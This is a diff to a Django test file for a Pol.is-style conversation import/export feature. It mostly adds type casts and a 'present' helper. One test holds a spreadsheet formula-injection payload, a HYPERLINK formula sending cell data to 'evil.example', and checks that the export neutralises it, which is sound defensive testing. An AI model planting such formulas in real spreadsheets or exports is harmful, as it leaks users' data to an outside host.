@@ -7,7 +7,7 @@ import csv
 import io
 import zipfile
 from pathlib import Path
-from typing import Any
+from typing import Any, cast
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -17,6 +17,7 @@ from coproduce.conversations.models import Conversation, Participant, Statement,
 from coproduce.core.audit import AuditEvent
 from coproduce.core.exceptions import NotPermitted, ServiceError
 from coproduce.methods import polis_csv
+from tests.conftest import present
 from tests.conversations.voting import assert_counts_match
 from tests.factories import MembershipFactory
 
@@ -57,11 +58,13 @@ def test_a_pol_is_open_data_export_is_imported_with_its_history_and_groups(coord
     changed = next(key for key in export.latest() if sum(1 for v in export.votes if v[:2] == key) > 1)
     rows = sorted((v for v in export.votes if v[:2] == changed), key=lambda v: v[3])
     history = VoteEvent.objects.filter(
-        conversation=conversation, participant__number=changed[0], statement__number=changed[1]
+        conversation=conversation, participant__number=cast(int, changed[0]), statement__number=changed[1]
     ).order_by("cast_at", "pk")
     assert [(e.value, int(e.cast_at.timestamp() * 1000)) for e in history] == [(v[2], int(v[3])) for v in rows]
-    vote = Vote.objects.get(conversation=conversation, participant__number=changed[0], statement__number=changed[1])
-    assert vote.updated_at == history.last().cast_at and vote.created_at == history.first().cast_at
+    vote = Vote.objects.get(
+        conversation=conversation, participant__number=cast(int, changed[0]), statement__number=changed[1]
+    )
+    assert vote.updated_at == present(history.last()).cast_at and vote.created_at == present(history.first()).cast_at
     event = AuditEvent.objects.get(action="conversations.imported")
     assert event.detail == {
         "statements": 50,
@@ -117,7 +120,7 @@ def test_the_topic_and_description_go_out_in_summary_csv_and_come_back(coordinat
         actor=coordinator, topic='Fairs, "spring" edition', description="Plan the **fair**.", seeds=["One", "Two"]
     )
     voter = MembershipFactory(partnership=partnership, is_member=True)
-    services.vote_cast(actor=voter, statement_id=conversation.statements.first().pk, vote="agree")
+    services.vote_cast(actor=voter, statement_id=present(conversation.statements.first()).pk, vote="agree")
     summary = selectors.polis_export(conversation).files["summary.csv"]
     assert summary.splitlines() == [
         'topic,"Fairs, ""spring"" edition"',
@@ -143,7 +146,7 @@ def test_a_members_formula_goes_out_as_text_and_comes_back_as_written(coordinato
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Click for help")'
     services.statement_add(actor=member, conversation=conversation, text=formula)
     services.statement_add(actor=member, conversation=conversation, text="'-already quoted")
-    services.vote_cast(actor=member, statement_id=conversation.statements.first().pk, vote="disagree")
+    services.vote_cast(actor=member, statement_id=present(conversation.statements.first()).pk, vote="disagree")
     files = selectors.polis_export(conversation).files
     bodies = [row["comment-body"] for row in csv.DictReader(io.StringIO(files["comments.csv"]))]
     assert "'" + formula in bodies and formula not in bodies
